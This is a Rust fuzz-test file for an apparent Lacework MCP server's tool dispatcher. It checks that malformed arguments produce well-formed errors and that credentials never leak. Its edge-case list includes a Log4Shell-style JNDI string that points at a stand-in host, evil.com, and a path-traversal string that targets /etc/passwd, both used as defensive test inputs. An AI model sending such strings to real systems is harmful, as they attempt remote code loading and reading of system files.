//! Black-box fuzzing of the tool dispatcher.
//!
//! Random, malformed and edge-case argument objects are thrown at every
//! tool. The dispatcher must always answer with a well-formed ToolResponse
//! and must never leak credentials.

mod common;

use common::MockLacework;
use lacework_mcp_server::build_dispatcher;
use lacework_mcp_server::error::ErrorKind;
use lacework_mcp_server::tools::schema::parse_timestamp;
use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;
use serde_json::{Map, Value as JsonValue, json};

const TOOLS: [&str; 5] = [
    "ping",
    "run_lql_query",
    "list_resources",
    "list_alerts",
    "search_aws_compliance",
];

const ARG_NAMES: [&str; 13] = [
    "queryName",
    "queryText",
    "parameters",
    "provider",
    "resourceType",
    "status",
    "accountIds",
    "returns",
    "startTime",
    "endTime",
    "limit",
    "format",
    "queryId",
];

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "🚀".repeat(100),
        "aws".to_string(),
        "AWS".to_string(),
        "2025-01-01".to_string(),
        "2025-01-01T00:00:00Z".to_string(),
        "2025-02-30".to_string(),
        "9999-99-99T99:99:99Z".to_string(),
        "table".to_string(),
        "../../etc/passwd".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "{ source { LW_CFG_AWS_EC2_INSTANCES } return { RESOURCE_ID } }".to_string(),
        "a".repeat(10_000),
        random_string(64),
    ]
}

fn random_value(depth: u32) -> JsonValue {
    let mut rng = rand::thread_rng();
    match rng.gen_range(0..9) {
        0 => JsonValue::Null,
        1 => JsonValue::Bool(rng.r#gen()),
        2 => json!(rng.gen_range(-10_i64..200_000)),
        3 => json!(rng.r#gen::<f64>() * 1e6),
        4 => json!(u64::MAX),
        5 if depth < 2 => {
            let len = rng.gen_range(0..4);
            JsonValue::Array((0..len).map(|_| random_value(depth + 1)).collect())
        }
        6 if depth < 2 => {
            let mut map = Map::new();
            for _ in 0..rng.gen_range(0..4) {
                map.insert(random_string(5), random_value(depth + 1));
            }
            JsonValue::Object(map)
        }
        _ => {
            let strings = edge_case_strings();
            JsonValue::String(strings.choose(&mut rng).cloned().unwrap_or_default())
        }
    }
}

fn random_arguments() -> Map<String, JsonValue> {
    let mut rng = rand::thread_rng();
    let mut map = Map::new();
    for _ in 0..rng.gen_range(0..6) {
        let name = if rng.gen_bool(0.9) {
            ARG_NAMES.choose(&mut rng).unwrap().to_string()
        } else {
            random_string(8)
        };
        map.insert(name, random_value(0));
    }
    map
}

#[tokio::test]
async fn fuzz_random_arguments_never_break_dispatch() {
    let mock = MockLacework::start().await;
    let mut config = mock.config();
    config.max_pages = 2;
    let dispatcher = build_dispatcher(&config).unwrap();

    for _ in 0..300 {
        let tool = *TOOLS.choose(&mut rand::thread_rng()).unwrap();
        let arguments = random_arguments();
        let response = dispatcher.dispatch(tool, arguments.clone()).await;

        let text = serde_json::to_string(&response).unwrap();
        assert!(!text.contains("_mock_secret"), "secret leaked for {:?}", arguments);
        assert!(!text.contains("tok-1\""), "token leaked for {:?}", arguments);

        match response.error_kind() {
            None => assert!(response.payload.is_some()),
            Some(kind) => assert!(
                matches!(kind, ErrorKind::InvalidArguments),
                "unexpected {} for {} {:?}",
                kind,
                tool,
                arguments
            ),
        }
    }
}

#[tokio::test]
async fn fuzz_unknown_tool_names() {
    let mock = MockLacework::start().await;
    let dispatcher = build_dispatcher(&mock.config()).unwrap();

    let mut names = edge_case_strings();
    names.extend(["PING".to_string(), "list_resources ".to_string(), "query".to_string()]);
    for name in names {
        let response = dispatcher.dispatch(&name, random_arguments()).await;
        assert_eq!(response.error_kind(), Some(ErrorKind::InvalidArguments));
    }
    assert!(mock.requests().is_empty());
    assert_eq!(mock.token_requests(), 0);
}

#[tokio::test]
async fn fuzz_invalid_values_never_reach_network() {
    let mock = MockLacework::start().await;
    let dispatcher = build_dispatcher(&mock.config()).unwrap();

    let bad_values = [
        json!(null),
        json!(""),
        json!("   "),
        json!(42),
        json!([]),
        json!({}),
        json!("oracle"),
    ];
    for value in bad_values {
        let response = dispatcher
            .dispatch("list_resources", [("provider".to_string(), value)].into_iter().collect())
            .await;
        assert_eq!(response.error_kind(), Some(ErrorKind::InvalidArguments));
    }

    for limit in [json!(0), json!(-1), json!(1.5), json!("10"), json!(u64::MAX)] {
        let mut arguments = Map::new();
        arguments.insert("limit".to_string(), limit);
        let response = dispatcher.dispatch("list_alerts", arguments).await;
        assert_eq!(response.error_kind(), Some(ErrorKind::InvalidArguments));
    }

    assert!(mock.requests().is_empty());
}

#[test]
fn fuzz_timestamp_parsing() {
    for s in edge_case_strings() {
        let _ = parse_timestamp(&s);
    }
    for _ in 0..1000 {
        let _ = parse_timestamp(&random_string(rand::thread_rng().gen_range(0..30)));
    }
    assert!(parse_timestamp("2025-02-30").is_none());
    assert!(parse_timestamp("2025-01-01").is_some());
}
